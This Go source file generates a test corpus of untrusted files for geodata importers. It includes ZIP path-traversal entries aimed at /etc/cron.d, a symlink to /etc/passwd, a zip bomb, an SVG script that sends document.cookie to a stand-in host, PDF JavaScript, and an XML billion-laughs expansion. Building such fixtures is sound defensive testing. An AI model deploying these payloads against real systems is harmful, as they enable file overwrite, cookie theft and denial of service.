package main

import (
	"archive/zip"
	"bytes"
	"encoding/json"
	"fmt"
	"io/fs"
	"os"
	"path/filepath"
	"strings"
)

// An entry is a file in an archive.
type entry struct {
	name    string
	content []byte
	mode    fs.FileMode
}

func (m *maker) zipped(entries ...entry) []byte {
	var b bytes.Buffer
	w := zip.NewWriter(&b)
	for _, e := range entries {
		h := &zip.FileHeader{Name: e.name, Method: zip.Deflate, Modified: clock}
		h.SetMode(e.mode | 0o644)
		f, err := w.CreateHeader(h)
		if err != nil {
			m.fail(err)
			return nil
		}
		_, err = f.Write(e.content)
		m.fail(err)
	}
	m.fail(w.Close())
	return b.Bytes()
}

// parts are the files of the scratch folder with a stem, as entries.
func (m *maker) parts(stem string, without ...string) []entry {
	paths, err := filepath.Glob(m.temp(stem + ".*"))
	m.fail(err)
	var all []entry
next:
	for _, p := range paths {
		for _, w := range without {
			if strings.HasSuffix(p, w) {
				continue next
			}
		}
		all = append(all, entry{name: filepath.Base(p), content: m.bytes(p)})
	}
	return all
}

// archives makes ZIP files that are not to be trusted.
func (m *maker) archives() {
	good := m.parts("utf8")
	m.write("zip-path-upwards.zip", m.zipped(append(good, entry{name: "../../../tmp/diming-was-here.shp", content: []byte("x")})...))
	m.write("zip-path-absolute.zip", m.zipped(append(good, entry{name: "/etc/cron.d/diming", content: []byte("x")})...))
	m.write("zip-path-windows.zip", m.zipped(append(good, entry{name: `..\..\Windows\x.shp`, content: []byte("x")})...))
	m.write("zip-symlink.zip", m.zipped(append(m.parts("utf8", ".dbf"), entry{name: "utf8.dbf", content: []byte("/etc/passwd"), mode: fs.ModeSymlink})...))
	m.write("zip-bomb.zip", m.zipped(append(good, entry{name: "big.shp", content: make([]byte, 64<<20)})...))
	locked := m.zipped(good...)
	for at := 0; ; { // the bit that says a password is needed, in all headers
		i := bytes.Index(locked[at:], []byte("PK\x01\x02"))
		if i < 0 {
			break
		}
		at += i + 4
		locked[at+4] |= 1
	}
	m.write("zip-password.zip", locked)
	m.write("zip-of-a-table.zip", m.zipped(entry{name: "地名.csv", content: []byte(heading + "\n" + villages[0] + "\n")}))
	m.write("zip-truncated.zip", m.zipped(good...)[:600])
	m.write("zip-two-shapefiles.zip", m.zipped(append(good, m.parts("gbk", ".cpg")...)...))
	var deep []entry
	for _, e := range good {
		deep = append(deep, entry{name: "资料/" + strings.ToUpper(e.name), content: e.content})
	}
	m.write("zip-folders-and-capitals.zip", m.zipped(deep...))
}

// dataless makes files that are no data.
func (m *maker) dataless() {
	m.text("picture-with-script.svg", `<?xml version="1.0"?>`, `<svg xmlns="http://www.w3.org/2000/svg"><script>fetch("http://x.invalid/"+document.cookie)</script><text>清湖头村</text></svg>`)
	m.text("picture-called-csv.csv", `<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>`)
	exif := "\xFF\xD8\xFF\xE1\x00\x2CExif\x00\x00II*\x00\x08\x00\x00\x00\x01\x00\x25\x88\x04\x00\x01\x00\x00\x00\x1A\x00\x00\x00\x00\x00\x00\x00<script>\x00\xFF\xD9"
	m.write("photo-with-position.jpg", []byte(exif))
	m.text("report.pdf", "%PDF-1.7", "%\xE2\xE3\xCF\xD3", "1 0 obj<</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj")
	m.text("page-called-xls.xls", "<html><meta charset=gbk><table><tr><td>name</td></tr></table></html>")
	m.write("old.xls", m.compound("Workbook"))
	m.write("drawing.dwg", append([]byte("AC1032\x00\x00\x00\x00"), make([]byte, 100)...))
	m.write("archive.7z", append([]byte("7z\xBC\xAF\x27\x1C\x00\x04"), make([]byte, 100)...))
	m.text("entities.kml", `<?xml version="1.0"?>`, `<!DOCTYPE kml [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;"><!ENTITY d "&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;"><!ENTITY e "&d;&d;&d;&d;&d;&d;&d;&d;&d;&d;"><!ENTITY f "&e;&e;&e;&e;&e;&e;&e;&e;&e;&e;"><!ENTITY g "&f;&f;&f;&f;&f;&f;&f;&f;&f;&f;">]>`,
		`<kml xmlns="http://www.opengis.net/kml/2.2"><Document><Placemark><name>&g;&g;&g;&g;&g;</name><Point><coordinates>118.5,28.7</coordinates></Point></Placemark></Document></kml>`)
}

// compound is the beginning of a compound file with one stream in its
// directory.
func (m *maker) compound(stream string) []byte {
	b := append([]byte("\xD0\xCF\x11\xE0\xA1\xB1\x1A\xE1"), make([]byte, 1016)...)
	for i, c := range []byte(stream) {
		b[512+128+2*i] = c
	}
	return b
}

// writeReadme lists the corpus from its manifest.
func writeReadme(folder string) error {
	all, err := os.ReadFile(filepath.Join(folder, "manifest.json"))
	if err != nil {
		return err
	}
	var files []struct {
		File, Tries, Refused     string
		Read, Accepted, Rejected int
	}
	if err := json.Unmarshal(all, &files); err != nil {
		return fmt.Errorf("read manifest: %w", err)
	}
	var b strings.Builder
	b.WriteString("# Broken and odd files\n\nMade by `go run ./importers/corpus testdata/imports` (by hand, with excelize and with GDAL 3.6), except shp-big5-epsg3826.zip: towns of Hualien from Taiwan's open data (see ../README.md), written as BIG5 in EPSG:3826. `manifest.json` has for each what it tries and its expected account, which `TestCorpus` in importers holds it to.\n\n| file | tries | account |\n|---|---|---|\n")
	for _, f := range files {
		account := fmt.Sprintf("read %d, accepted %d, rejected %d", f.Read, f.Accepted, f.Rejected)
		if f.Refused != "" {
			account = "refused: " + f.Refused
		}
		fmt.Fprintf(&b, "| %s | %s | %s |\n", f.File, f.Tries, strings.ReplaceAll(account, "|", "\\|"))
	}
	return os.WriteFile(filepath.Join(folder, "README.md"), []byte(b.String()), 0o644)
}
